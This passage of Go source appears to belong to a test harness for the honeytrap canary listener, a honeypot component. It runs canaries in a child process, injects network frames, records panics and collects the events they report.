	if s.ReadDelayMs > 0 {
		time.Sleep(time.Duration(s.ReadDelayMs) * time.Millisecond)
	}
	buf := make([]byte, 700)
	for {
		n, err := conn.Read(buf)
		s.mu.Lock()
		inv.Data = append(inv.Data, buf[:n]...)
		if err != nil || (n == 0 && err == nil) {
			inv.Done = true
			if err != nil && err != io.EOF {
				inv.Err = err.Error()
			}
			s.cond.Broadcast()
			s.mu.Unlock()
			return nil
		}
		s.mu.Unlock()
	}
}

func (s *Stub) Invocations() []Invocation {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]Invocation, len(s.invs))
	for i, v := range s.invs {
		out[i] = *v
		out[i].Data = append([]byte(nil), v.Data...)
	}
	return out
}

func (s *Stub) Detected() [][]byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([][]byte(nil), s.detected...)
}

// WaitDone waits until n invocations have finished reading.
func (s *Stub) WaitDone(n int, timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, func() {
		s.mu.Lock()
		s.cond.Broadcast()
		s.mu.Unlock()
	})
	defer t.Stop()
	s.mu.Lock()
	defer s.mu.Unlock()
	for {
		done := 0
		for _, v := range s.invs {
			if v.Done {
				done++
			}
		}
		if done >= n {
			return true
		}
		if !time.Now().Before(deadline) {
			return false
		}
		s.cond.Wait()
	}
}
