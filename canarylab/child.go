//go:build verif && linux
// +build verif,linux

package canarylab

// The child process: the test binary re-executes itself with VERIF_CANARY_CHILD=1 and
// hosts hooked canaries there, because the listener's receive loop has no recover - a
// crash must kill a process the harness can lose. Commands arrive on stdin
// (cmd byte, canary id u32, length u32, payload), reports leave on fd 3 as JSON lines.
// The child's stdout is discarded (the listener prints debug output there).

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener/canary"
)

const childEnv = "VERIF_CANARY_CHILD"

type ARPEntry struct {
	IP        string `json:"ip"`
	MAC       string `json:"mac"`
	Interface string `json:"if"`
}

type Route struct {
	Interface string `json:"if"`
	Gateway   string `json:"gw"`
	Dest      string `json:"dst"` // CIDR
}

// Config of one hooked canary.
type Config struct {
	Interfaces []string   `json:"interfaces"`
	ARP        []ARPEntry `json:"arp"`
	Routes     []Route    `json:"routes"`
	// Start runs the real Start() (receive loop + knock detector); otherwise the canary
	// is driven with Inject and only the knock detector goroutine runs.
	Start bool `json:"start"`
	// HoldSource / HoldMs: the event channel is slow for port-scan events of this source
	// address - Send announces the event ("hold" report) and then takes HoldMs before it
	// returns, as a channel that pushes to a remote service may.
	HoldSource string `json:"hold_source,omitempty"`
	HoldMs     int    `json:"hold_ms,omitempty"`
	// Retain: besides serialising every event the moment it is delivered, the channel keeps
	// the event.Event objects of this category ("*": of every category) as delivered, the
	// way a pusher that queues events and marshals them later does; Canary.Late reads
	// their fields again at a time of the caller's choosing.
	Retain string `json:"retain,omitempty"`
}

// LateEv is a retained event as it reads at the time of a Late call; I is its position
// in the canary's event list (Events()).
type LateEv struct {
	I int                    `json:"i"`
	M map[string]interface{} `json:"m"`
}

type report struct {
	T      string                 `json:"t"`
	ID     uint32                 `json:"id"`
	Err    string                 `json:"err,omitempty"`
	M      map[string]interface{} `json:"m,omitempty"`
	Tx     []string               `json:"tx,omitempty"`
	Panic  string                 `json:"panic,omitempty"`
	N      int                    `json:"n,omitempty"`
	Panics []BatchPanic           `json:"panics,omitempty"`
	States int                    `json:"states,omitempty"`
	OK     bool                   `json:"ok,omitempty"`
	ISS    uint32                 `json:"iss,omitempty"`
	State  string                 `json:"state,omitempty"`
	GapMs  int                    `json:"gap_ms,omitempty"`
	Excess int                    `json:"excess_ms,omitempty"`
	Late   []LateEv               `json:"late,omitempty"`
}

type BatchPanic struct {
	Index int    `json:"i"`
	Msg   string `json:"msg"`
	Where string `json:"where"`
}

// ---------------------------------------------------------------------------------
// child side

type childCanary struct {
	c      *canary.Canary
	ev     *evChan
	peers  []int
	cancel context.CancelFunc
	// stalled: a write to the socketpair gave up because the receive loop had not taken
	// a frame for stallAfter (see writeFrame); further bulk writes are not attempted
	stalled int32
}

// stallAfter bounds a single write to a canary's socketpair. The datagram queue holds a
// handful of frames; a write waits only while it is full, i.e. while the receive loop
// takes nothing. A loop that is merely slow (state table scans during a flood) takes a
// frame every few hundred microseconds.
const stallAfter = 20 * time.Second

var errStall = errors.New("stalled")

type repWriter struct {
	mu sync.Mutex
	f  *os.File
}

func (w *repWriter) send(r report) {
	data, err := json.Marshal(r)
	if err != nil {
		data, _ = json.Marshal(report{T: r.T, ID: r.ID, Err: "unserialisable report: " + err.Error()})
	}
	data = append(data, '\n')
	w.mu.Lock()
	w.f.Write(data)
	w.mu.Unlock()
}

type evChan struct {
	id         uint32
	w          *repWriter
	holdSource string
	hold       time.Duration
	retain     string

	mu   sync.Mutex // orders the "ev" reports of this canary with their positions
	n    int        // events delivered so far
	kept []keptEv
}

type keptEv struct {
	i  int
	ev event.Event
}

// flatten copies the fields of an event into what goes over the report pipe.
func flatten(m map[string]interface{}) map[string]interface{} {
	out := make(map[string]interface{}, len(m))
	for k, v := range m {
		if k == "payload" || k == "date" {
			continue
		}
		switch x := v.(type) {
		case string:
			out[k] = x
		case []string:
			out[k] = append([]string{}, x...)
		case int:
			out[k] = x
		case int64:
			out[k] = x
		case uint16:
			out[k] = int(x)
		case uint32:
			out[k] = int64(x)
		case uint8:
			out[k] = int(x)
		case bool:
			out[k] = x
		case time.Duration:
			out[k] = int64(x)
		default:
			out[k] = fmt.Sprint(v)
		}
	}
	return out
}

func (e *evChan) Send(ev event.Event) {
	m := event.ToMap(ev)
	if e.hold > 0 && fmt.Sprint(m["category"]) == "portscan" && fmt.Sprint(m["source-ip"]) == e.holdSource {
		e.w.send(report{T: "hold", ID: e.id})
		time.Sleep(e.hold)
	}
	out := flatten(m)
	e.mu.Lock()
	if e.retain == "*" || (e.retain != "" && fmt.Sprint(m["category"]) == e.retain) {
		e.kept = append(e.kept, keptEv{i: e.n, ev: ev})
	}
	e.n++
	e.w.send(report{T: "ev", ID: e.id, M: out})
	e.mu.Unlock()
}

// late reads the fields of the retained events as they are now.
func (e *evChan) late() []LateEv {
	e.mu.Lock()
	kept := append([]keptEv(nil), e.kept...)
	e.mu.Unlock()
	out := make([]LateEv, 0, len(kept))
	for _, k := range kept {
		out = append(out, LateEv{I: k.i, M: flatten(event.ToMap(k.ev))})
	}
	return out
}

// ChildIfRequested turns the process into the canary child when the environment asks
// for it (never returns in that case). Call it first in TestMain.
func ChildIfRequested() {
	if os.Getenv(childEnv) == "" {
		return
	}
	os.Exit(childMain())
}

func where(stack []byte) string {
	// first frame below the runtime panic machinery that is inside honeytrap
	lines := strings.Split(string(stack), "\n")
	for i := 0; i+1 < len(lines); i++ {
		l := lines[i]
		if strings.HasPrefix(l, "github.com/honeytrap/honeytrap/") && !strings.Contains(l, "InjectFrame") {
			loc := strings.TrimSpace(lines[i+1])
			if j := strings.LastIndex(loc, " +0x"); j > 0 {
				loc = loc[:j]
			}
			if j := strings.Index(loc, "/listener/canary/"); j >= 0 {
				loc = loc[j+1:]
			}
			fn := l
			if j := strings.Index(fn, "("); j > 0 && !strings.HasPrefix(fn[j:], "(*") {
				fn = fn[:j]
			}
			return loc
		}
	}
	return "?"
}

func childMain() int {
	w := &repWriter{f: os.NewFile(3, "report")}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	canaries := map[uint32]*childCanary{}
	hdr := make([]byte, 9)
	for {
		if _, err := io.ReadFull(in, hdr); err != nil {
			return 0 // parent closed stdin: done
		}
		cmd := hdr[0]
		id := binary.BigEndian.Uint32(hdr[1:5])
		n := binary.BigEndian.Uint32(hdr[5:9])
		payload := make([]byte, n)
		if _, err := io.ReadFull(in, payload); err != nil {
			return 0
		}
		k := canaries[id]
		if k == nil && cmd != 'N' && cmd != 'P' && cmd != 'X' {
			w.send(report{T: "err", ID: id, Err: fmt.Sprintf("command %c for unknown canary", cmd)})
			continue
		}
		switch cmd {
		case 'X':
			return 0
		case 'P':
			w.send(report{T: "pong", ID: id})
		case 'N':
			var cfg Config
			if err := json.Unmarshal(payload, &cfg); err != nil {
				w.send(report{T: "new", ID: id, Err: err.Error()})
				continue
			}
			k, err := newChildCanary(id, cfg, w)
			if err != nil {
				w.send(report{T: "new", ID: id, Err: err.Error()})
				continue
			}
			canaries[id] = k
			w.send(report{T: "new", ID: id})
		case 'F': // one frame through the socketpair: [ifindex][frame]
			if len(payload) < 1 || int(payload[0]) >= len(k.peers) {
				w.send(report{T: "err", ID: id, Err: "bad F command"})
				continue
			}
			// a single frame (the probe) is always attempted, also after a stall
			if err := k.writeFrame(k.peers[payload[0]], payload[1:]); err == errStall {
				w.send(report{T: "stall", ID: id})
			} else if err != nil {
				w.send(report{T: "err", ID: id, Err: "write to socketpair: " + err.Error()})
			}
		case 'M': // many frames through the socketpair: [ifindex] then (u16 len, frame)*
			if len(payload) < 1 || int(payload[0]) >= len(k.peers) {
				w.send(report{T: "err", ID: id, Err: "bad M command"})
				continue
			}
			fd := k.peers[payload[0]]
			p := payload[1:]
			for len(p) >= 2 && atomic.LoadInt32(&k.stalled) == 0 {
				l := int(binary.BigEndian.Uint16(p[0:2]))
				if 2+l > len(p) {
					break
				}
				if err := k.writeFrame(fd, p[2:2+l]); err == errStall {
					// the loop has stopped reading: the rest of the history cannot be delivered
					w.send(report{T: "stall", ID: id})
					break
				} else if err != nil {
					w.send(report{T: "err", ID: id, Err: "write to socketpair: " + err.Error()})
					break
				}
				p = p[2+l:]
			}
		case 'T': // paced frames through the socketpair: [ifindex] then (u32 delay ms, u16 len, frame)*
			if len(payload) < 1 || int(payload[0]) >= len(k.peers) {
				w.send(report{T: "err", ID: id, Err: "bad T command"})
				continue
			}
			go paced(k, id, k.peers[payload[0]], payload[1:], w)
		case 'w': // walk: inject each frame under recover, drain after each; reply with everything emitted
			r := report{T: "walk", ID: id}
			p := payload
			for len(p) >= 2 {
				l := int(binary.BigEndian.Uint16(p[0:2]))
				if 2+l > len(p) {
					break
				}
				frame := p[2 : 2+l]
				p = p[2+l:]
				func() {
					defer func() {
						if e := recover(); e != nil {
							if len(r.Panics) < 100 {
								r.Panics = append(r.Panics, BatchPanic{Index: r.N, Msg: fmt.Sprint(e), Where: where(debug.Stack())})
							}
						}
					}()
					k.c.InjectFrame(frame)
				}()
				for _, f := range k.c.DrainTx() {
					r.Tx = append(r.Tx, hex.EncodeToString(f))
				}
				r.N++
			}
			w.send(r)
		case 'J', 'j': // inject one frame synchronously, reply with the drained transmit ring
			r := report{T: "inj", ID: id}
			func() {
				defer func() {
					if e := recover(); e != nil {
						r.Panic = fmt.Sprintf("%v @ %s", e, where(debug.Stack()))
					}
				}()
				k.c.InjectFrame(payload)
			}()
			if cmd == 'j' && !quiesce(30*time.Second, false) {
				r.Err = "goroutines of the listener did not come to rest within 30s"
			}
			for _, f := range k.c.DrainTxQuiesced() {
				r.Tx = append(r.Tx, hex.EncodeToString(f))
			}
			w.send(r)
		case 'D':
			r := report{T: "tx", ID: id}
			for _, f := range k.c.DrainTxQuiesced() {
				r.Tx = append(r.Tx, hex.EncodeToString(f))
			}
			w.send(r)
		case 'B': // inject many frames, each under recover; (u16 len, frame)*
			r := report{T: "batch", ID: id}
			p := payload
			for len(p) >= 2 {
				l := int(binary.BigEndian.Uint16(p[0:2]))
				if 2+l > len(p) {
					break
				}
				frame := p[2 : 2+l]
				p = p[2+l:]
				func() {
					defer func() {
						if e := recover(); e != nil {
							if len(r.Panics) < 5000 {
								r.Panics = append(r.Panics, BatchPanic{Index: r.N, Msg: fmt.Sprint(e), Where: where(debug.Stack())})
							}
						}
					}()
					k.c.InjectFrame(frame)
				}()
				k.c.DrainTx()
				r.N++
			}
			w.send(r)
		case 'b': // burst: inject all frames back to back (no drain in between), then barrier, then drain
			r := report{T: "burst", ID: id}
			p := payload
			for len(p) >= 2 {
				l := int(binary.BigEndian.Uint16(p[0:2]))
				if 2+l > len(p) {
					break
				}
				frame := p[2 : 2+l]
				p = p[2+l:]
				func() {
					defer func() {
						if e := recover(); e != nil {
							r.Panics = append(r.Panics, BatchPanic{Index: r.N, Msg: fmt.Sprint(e), Where: where(debug.Stack())})
						}
					}()
					k.c.InjectFrame(frame)
				}()
				r.N++
			}
			if !quiesce(30*time.Second, false) {
				r.Err = "goroutines of the listener did not come to rest within 30s"
			}
			for _, f := range k.c.DrainTxQuiesced() {
				r.Tx = append(r.Tx, hex.EncodeToString(f))
			}
			w.send(r)
		case 'q': // barrier for a canary behind the real loop: socket drained, everybody parked
			r := report{T: "rest", ID: id}
			deadline := time.Now().Add(10 * time.Second)
			calm := 0
			for calm < 2 {
				if pending(k.peers) == 0 && quiesce(0, true) {
					calm++
				} else {
					calm = 0
					if time.Now().After(deadline) {
						r.Err = "the receive loop did not come to rest within 10s"
						break
					}
					time.Sleep(50 * time.Microsecond)
				}
			}
			w.send(r)
		case 'r': // light barrier: the receive loop has taken every frame written so far (it may still be handling the last)
			r := report{T: "drained", ID: id}
			deadline := time.Now().Add(10 * time.Second)
			for pending(k.peers) != 0 {
				if time.Now().After(deadline) {
					r.Err = "the receive loop did not take the frames written to its socket within 10s"
					break
				}
				time.Sleep(50 * time.Microsecond)
			}
			w.send(r)
		case 'I': // connection state: src ip(4) sport(2) dst ip(4) dport(2)
			r := report{T: "conn", ID: id}
			if len(payload) == 12 {
				src := net.IPv4(payload[0], payload[1], payload[2], payload[3])
				dst := net.IPv4(payload[6], payload[7], payload[8], payload[9])
				sport := binary.BigEndian.Uint16(payload[4:6])
				dport := binary.BigEndian.Uint16(payload[10:12])
				r.ISS, r.State, r.OK = k.c.VerifConnState(src, sport, dst, dport)
			}
			w.send(r)
		case 'S':
			w.send(report{T: "states", ID: id, States: k.c.VerifStateCount()})
		case 'E': // the retained events as they read now
			w.send(report{T: "late", ID: id, Late: k.ev.late()})
		case 'K':
			if k.cancel != nil {
				k.cancel()
			}
			k.c.VerifClose()
			delete(canaries, id)
		default:
			w.send(report{T: "err", ID: id, Err: fmt.Sprintf("unknown command %q", cmd)})
		}
	}
}

// quiesce waits until every goroutine that runs or was started by listener code is
// blocked (parked in a read, a select, a sleep) or gone: the port handlers have then
// consumed what the last frame made available and emitted what they emit. This is the
// harness's barrier against scheduling noise; it observes, it does not steer.
// pending returns the number of bytes written to the peer sockets that the receive loop
// has not taken yet.
func pending(peers []int) int {
	total := 0
	for _, fd := range peers {
		var v int32
		if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, uintptr(fd), uintptr(syscall.TIOCOUTQ), uintptr(unsafe.Pointer(&v))); e != 0 {
			return 1 << 30
		}
		total += int(v)
	}
	return total
}

func quiesce(timeout time.Duration, loops bool) bool {
	deadline := time.Now().Add(timeout)
	buf := make([]byte, 1<<18)
	for i := 0; ; i++ {
		n := runtime.Stack(buf, true)
		if n == len(buf) && len(buf) < 1<<24 {
			buf = make([]byte, 2*len(buf))
			continue
		}
		if quiet(buf[:n], loops) {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		if i < 20 {
			runtime.Gosched()
		} else {
			time.Sleep(50 * time.Microsecond)
		}
	}
}

// quiet: loops tells whether a receive loop blocked in epoll_wait counts as parked.
func quiet(dump []byte, loops bool) bool {
	blocks := bytes.Split(dump, []byte("\n\n"))
	for i, b := range blocks {
		if i == 0 {
			continue // the calling goroutine
		}
		if !bytes.Contains(b, []byte("honeytrap/listener/canary")) {
			continue
		}
		open := bytes.IndexByte(b, '[')
		close := bytes.IndexByte(b, ']')
		if open < 0 || close < open {
			return false
		}
		state := string(b[open+1 : close])
		if j := strings.IndexByte(state, ','); j >= 0 {
			state = state[:j]
		}
		if strings.HasPrefix(state, "chan receive") || strings.HasPrefix(state, "select") {
			continue // includes "chan receive (nil chan)": Start()'s wait on a context that is never cancelled
		}
		switch state {
		case "sleep", "IO wait":
		case "syscall":
			if !loops || !bytes.Contains(b, []byte("syscall.EpollWait")) {
				return false
			}
		default:
			return false
		}
	}
	return true
}

// writeFrame writes one frame to the peer end of k's socketpair without ever blocking in
// the kernel: while the socket's queue (a few hundred frames) is full it polls, and when
// the queue has stayed full for stallAfter - the receive loop has taken nothing for that
// long - it gives up with errStall instead of blocking the child's command loop (and,
// behind it, the parent) for ever. After a stall the next writes wait a quarter of that.
func (k *childCanary) writeFrame(fd int, frame []byte) error {
	limit := stallAfter
	if atomic.LoadInt32(&k.stalled) != 0 {
		limit = stallAfter / 4
	}
	var start time.Time
	backoff := 20 * time.Microsecond
	for {
		err := syscall.Sendto(fd, frame, syscall.MSG_DONTWAIT, nil)
		switch err {
		case nil:
			return nil
		case syscall.EINTR:
		case syscall.EAGAIN:
			if start.IsZero() {
				start = time.Now()
			} else if time.Since(start) > limit {
				atomic.StoreInt32(&k.stalled, 1)
				return errStall
			}
			time.Sleep(backoff)
			if backoff < time.Millisecond {
				backoff *= 2
			}
		default:
			return err
		}
	}
}

// paced writes frames with the given delays before each of them (a scan that takes its
// time) and reports the largest gap between two consecutive writes as it really was.
func paced(k *childCanary, id uint32, fd int, p []byte, w *repWriter) {
	r := report{T: "paced", ID: id}
	var first, last time.Time
	var planned time.Duration
	defer func() {
		// how much longer the whole burst took than its delays add up to
		if r.N > 1 {
			if x := int((last.Sub(first) - planned) / time.Millisecond); x > 0 {
				r.Excess = x
			}
		}
		w.send(r)
	}()
	for len(p) >= 6 {
		delay := time.Duration(binary.BigEndian.Uint32(p[0:4])) * time.Millisecond
		l := int(binary.BigEndian.Uint16(p[4:6]))
		if 6+l > len(p) {
			break
		}
		if delay > 0 {
			time.Sleep(delay)
		}
		err := k.writeFrame(fd, p[6:6+l])
		now := time.Now()
		if err == errStall {
			r.Err = "stalled"
			break
		} else if err != nil {
			r.Err = "write to socketpair: " + err.Error()
			break
		}
		if r.N > 0 {
			if g := int(now.Sub(last) / time.Millisecond); g > r.GapMs {
				r.GapMs = g
			}
			planned += delay
		} else {
			first = now
		}
		last = now
		r.N++
		p = p[6+l:]
	}
}

func newChildCanary(id uint32, cfg Config, w *repWriter) (*childCanary, error) {
	var ac canary.ARPCache
	for _, a := range cfg.ARP {
		ip := net.ParseIP(a.IP)
		mac, err := net.ParseMAC(a.MAC)
		if ip == nil || err != nil {
			return nil, fmt.Errorf("bad arp entry %+v", a)
		}
		ac = append(ac, canary.ARPEntry{IP: ip, HardwareAddress: mac, Interface: a.Interface})
	}
	var rt canary.RouteTable
	for _, r := range cfg.Routes {
		gw := net.ParseIP(r.Gateway)
		_, dst, err := net.ParseCIDR(r.Dest)
		if gw == nil || err != nil {
			return nil, fmt.Errorf("bad route %+v", r)
		}
		rt = append(rt, canary.Route{Interface: r.Interface, Gateway: gw, Destination: *dst})
	}
	ec := &evChan{id: id, w: w, holdSource: cfg.HoldSource, hold: time.Duration(cfg.HoldMs) * time.Millisecond, retain: cfg.Retain}
	c, err := canary.NewVerif(cfg.Interfaces, ac, rt, ec)
	if err != nil {
		return nil, err
	}
	k := &childCanary{c: c, ev: ec}
	for _, name := range cfg.Interfaces {
		k.peers = append(k.peers, c.VerifPeer(name))
	}
	if cfg.Start {
		// never cancelled: cancelling closes the epoll descriptor under the loop, which
		// the loop answers with log.Fatalf. The child simply exits when it is done.
		if err := c.Start(context.Background()); err != nil {
			return nil, err
		}
	} else {
		ctx, cancel := context.WithCancel(context.Background())
		k.cancel = cancel
		c.VerifStartDetector(ctx)
	}
	return k, nil
}

// ---------------------------------------------------------------------------------
// parent side

// Ev is one event reported by a canary in the child.
type Ev struct {
	M map[string]interface{}
}

// Str renders a value the way honeytrap's text channels would (numbers without exponent).
func (e Ev) Str(k string) string {
	v, ok := e.M[k]
	if !ok || v == nil {
		return ""
	}
	switch x := v.(type) {
	case string:
		return x
	case float64:
		return strconv.FormatFloat(x, 'f', -1, 64)
	}
	return fmt.Sprint(v)
}

func (e Ev) Has(k string) bool { _, ok := e.M[k]; return ok }

// Strings returns a []string value (nil when absent or of another type).
func (e Ev) Strings(k string) ([]string, bool) {
	v, ok := e.M[k]
	if !ok {
		return nil, false
	}
	l, ok := v.([]interface{})
	if !ok {
		return nil, false
	}
	out := make([]string, 0, len(l))
	for _, x := range l {
		s, ok := x.(string)
		if !ok {
			return nil, false
		}
		out = append(out, s)
	}
	return out, true
}

type tail struct {
	mu   sync.Mutex
	head []byte
	tail []byte
}

func (t *tail) Write(p []byte) (int, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if room := 32768 - len(t.head); room > 0 {
		if room > len(p) {
			room = len(p)
		}
		t.head = append(t.head, p[:room]...)
		p2 := p[room:]
		t.tail = append(t.tail, p2...)
	} else {
		t.tail = append(t.tail, p...)
	}
	if len(t.tail) > 65536 {
		t.tail = append([]byte(nil), t.tail[len(t.tail)-32768:]...)
	}
	return len(p), nil
}

func (t *tail) String() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	return string(t.head) + string(t.tail)
}

// Child is a running canary host process.
type Child struct {
	cmd    *exec.Cmd
	stdin  io.WriteCloser
	rep    *os.File
	stderr *tail

	wmu sync.Mutex // serialises commands (and synchronous command/reply pairs)

	mu       sync.Mutex
	canaries map[uint32]*Canary
	nextID   uint32

	replies chan report
	dead    chan struct{}
	waitErr error
}

// StartChild re-executes the test binary as a canary host.
func StartChild(extraEnv ...string) (*Child, error) {
	exe, err := os.Executable()
	if err != nil {
		return nil, err
	}
	pr, pw, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	cmd := exec.Command(exe)
	cmd.Env = append(append(os.Environ(), childEnv+"=1"), extraEnv...)
	cmd.ExtraFiles = []*os.File{pw}
	c := &Child{cmd: cmd, rep: pr, stderr: &tail{}, canaries: map[uint32]*Canary{}, replies: make(chan report, 64), dead: make(chan struct{})}
	cmd.Stderr = c.stderr
	cmd.Stdout = nil
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	c.stdin, err = cmd.StdinPipe()
	if err != nil {
		pr.Close()
		pw.Close()
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		pr.Close()
		pw.Close()
		return nil, err
	}
	pw.Close()
	go c.reader()
	return c, nil
}

func (c *Child) reader() {
	rd := bufio.NewReaderSize(c.rep, 1<<20)
	for {
		line, err := rd.ReadBytes('\n')
		if len(line) > 0 && line[len(line)-1] == '\n' {
			var r report
			dec := json.NewDecoder(bytes.NewReader(line))
			if derr := dec.Decode(&r); derr == nil {
				if r.T == "ev" || r.T == "hold" || r.T == "stall" || r.T == "paced" {
					c.mu.Lock()
					k := c.canaries[r.ID]
					c.mu.Unlock()
					switch {
					case k == nil:
					case r.T == "ev":
						k.add(Ev{M: r.M})
					case r.T == "hold":
						k.held()
					case r.T == "stall":
						k.stall()
					default:
						k.pacedDone(r)
					}
				} else {
					c.replies <- r
				}
			}
		}
		if err != nil {
			break
		}
	}
	c.waitErr = c.cmd.Wait()
	c.rep.Close()
	close(c.dead)
	c.mu.Lock()
	ks := make([]*Canary, 0, len(c.canaries))
	for _, k := range c.canaries {
		ks = append(ks, k)
	}
	c.mu.Unlock()
	for _, k := range ks {
		k.wake()
	}
}

// Dead reports whether the child has exited.
func (c *Child) Dead() bool {
	select {
	case <-c.dead:
		return true
	default:
		return false
	}
}

// WaitDead waits up to d for the child to exit.
func (c *Child) WaitDead(d time.Duration) bool {
	select {
	case <-c.dead:
		return true
	case <-time.After(d):
		return false
	}
}

// Death describes how the child ended: exit status plus the panic / fatal banner and
// the first goroutine of its stderr.
func (c *Child) Death() string {
	if !c.Dead() {
		return "alive"
	}
	st := "exit status 0"
	if c.waitErr != nil {
		st = c.waitErr.Error()
	}
	return st + ": " + Banner(c.stderr.String())
}

// Stderr returns what the child wrote to stderr (head and tail).
func (c *Child) Stderr() string { return c.stderr.String() }

// Banner extracts the "panic:" / "fatal error:" banner and the frames of the first
// goroutine inside honeytrap from a Go crash dump.
func Banner(stderr string) string {
	lines := strings.Split(stderr, "\n")
	for i, l := range lines {
		if strings.HasPrefix(l, "panic:") || strings.HasPrefix(l, "fatal error:") {
			out := []string{l}
			n := 0
			for j := i + 1; j < len(lines) && n < 4; j++ {
				if strings.HasPrefix(lines[j], "github.com/honeytrap/") && j+1 < len(lines) {
					loc := strings.TrimSpace(lines[j+1])
					if k := strings.LastIndex(loc, " +0x"); k > 0 {
						loc = loc[:k]
					}
					if k := strings.Index(loc, "/listener/"); k >= 0 {
						loc = loc[k+1:]
					}
					out = append(out, loc)
					n++
				}
			}
			return strings.Join(out, " | ")
		}
	}
	if len(stderr) > 300 {
		stderr = stderr[len(stderr)-300:]
	}
	return "no panic banner; stderr tail: " + strings.TrimSpace(stderr)
}

var ErrChildDead = errors.New("canary child is dead")

func (c *Child) command(cmd byte, id uint32, payload []byte) error {
	if c.Dead() {
		return ErrChildDead
	}
	buf := make([]byte, 9+len(payload))
	buf[0] = cmd
	binary.BigEndian.PutUint32(buf[1:5], id)
	binary.BigEndian.PutUint32(buf[5:9], uint32(len(payload)))
	copy(buf[9:], payload)
	if _, err := c.stdin.Write(buf); err != nil {
		return ErrChildDead
	}
	return nil
}

// call sends a command and waits for its reply (replies arrive in command order).
func (c *Child) call(cmd byte, id uint32, payload []byte, want string) (report, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	if err := c.command(cmd, id, payload); err != nil {
		return report{}, err
	}
	for {
		select {
		case r := <-c.replies:
			if r.T == "err" {
				return r, fmt.Errorf("child: %s", r.Err)
			}
			if r.T != want {
				continue
			}
			return r, nil
		case <-c.dead:
			// drain a reply that raced with the exit
			select {
			case r := <-c.replies:
				if r.T == want {
					return r, nil
				}
			default:
			}
			return report{}, ErrChildDead
		}
	}
}

// Ping returns when the child has executed every command sent before it.
func (c *Child) Ping() error {
	_, err := c.call('P', 0, nil, "pong")
	return err
}

// Kill terminates the child and releases its resources.
func (c *Child) Kill() {
	c.wmu.Lock()
	c.stdin.Close()
	c.wmu.Unlock()
	if !c.WaitDead(2 * time.Second) {
		c.cmd.Process.Kill()
		<-c.dead
	}
}

// Canary is the parent's handle of one hooked canary in the child.
type Canary struct {
	ch *Child
	id uint32

	mu     sync.Mutex
	cond   *sync.Cond
	events []Ev
	holds  int
	stalls int
	paced  []Paced
}

// Paced is the child's account of one SendPaced call.
type Paced struct {
	Sent     int    // frames written
	MaxGapMs int    // largest real gap between two consecutive writes
	ExcessMs int    // real duration from the first to the last write minus the requested delays
	Err      string // "stalled": the receive loop stopped taking frames
}

func (k *Canary) stall() {
	k.mu.Lock()
	k.stalls++
	k.cond.Broadcast()
	k.mu.Unlock()
}

func (k *Canary) pacedDone(r report) {
	k.mu.Lock()
	k.paced = append(k.paced, Paced{Sent: r.N, MaxGapMs: r.GapMs, ExcessMs: r.Excess, Err: r.Err})
	if r.Err == "stalled" {
		k.stalls++
	}
	k.cond.Broadcast()
	k.mu.Unlock()
}

// Stalled reports whether a write to the canary's socketpair was given up because the
// receive loop had not taken a single frame for 20 s (the frames after it in that
// SendMany call, and later SendMany calls, were not delivered; Send is still attempted).
func (k *Canary) Stalled() bool {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.stalls > 0
}

// SendPaced delivers the frames through the socketpair from a goroutine of the child
// that sleeps delaysMs[i] before frame i (asynchronous; see WaitPaced).
func (k *Canary) SendPaced(frames [][]byte, delaysMs []int) error {
	buf := []byte{0}
	for i, f := range frames {
		d := 0
		if i < len(delaysMs) {
			d = delaysMs[i]
		}
		buf = append(buf, byte(d>>24), byte(d>>16), byte(d>>8), byte(d), byte(len(f)>>8), byte(len(f)))
		buf = append(buf, f...)
	}
	k.ch.wmu.Lock()
	defer k.ch.wmu.Unlock()
	return k.ch.command('T', k.id, buf)
}

// WaitPaced waits until n SendPaced calls have been completed by the child and returns
// their accounts (ok=false: timeout or dead child).
func (k *Canary) WaitPaced(n int, timeout time.Duration) ([]Paced, bool) {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, k.wake)
	defer t.Stop()
	k.mu.Lock()
	defer k.mu.Unlock()
	for len(k.paced) < n {
		if !time.Now().Before(deadline) || k.ch.Dead() {
			return append([]Paced(nil), k.paced...), false
		}
		k.cond.Wait()
	}
	return append([]Paced(nil), k.paced...), true
}

// Walk injects the frames one by one (InjectFrame under recover), pops the transmit ring
// after each and returns every frame the listener emitted, in order.
func (k *Canary) Walk(frames [][]byte) (tx [][]byte, panics []BatchPanic, err error) {
	base := 0
	for len(frames) > 0 {
		var buf []byte
		n := 0
		for n < len(frames) && n < 4096 && len(buf) < 1<<20 {
			f := frames[n]
			buf = append(buf, byte(len(f)>>8), byte(len(f)))
			buf = append(buf, f...)
			n++
		}
		r, err := k.ch.call('w', k.id, buf, "walk")
		if err != nil {
			return tx, panics, err
		}
		for _, h := range r.Tx {
			b, _ := hex.DecodeString(h)
			tx = append(tx, b)
		}
		for _, p := range r.Panics {
			p.Index += base
			panics = append(panics, p)
		}
		base += n
		frames = frames[n:]
	}
	return tx, panics, nil
}

func (k *Canary) held() {
	k.mu.Lock()
	k.holds++
	k.cond.Broadcast()
	k.mu.Unlock()
}

// Holds returns the number of held deliveries announced so far.
func (k *Canary) Holds() int {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.holds
}

// WaitHold waits until the slow event channel has announced at least n held deliveries
// (see Config.HoldSource), the child died or the timeout expired.
func (k *Canary) WaitHold(n int, timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
